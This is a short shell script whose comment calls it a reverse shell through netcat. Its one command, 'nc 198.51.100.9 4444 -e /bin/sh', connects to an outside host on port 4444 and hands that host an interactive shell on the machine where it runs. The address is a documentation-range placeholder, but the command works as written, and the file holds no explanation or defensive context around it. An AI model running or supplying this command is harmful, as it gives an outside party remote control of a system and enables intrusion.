#!/bin/sh
# A reverse shell through netcat.
nc 198.51.100.9 4444 -e /bin/sh
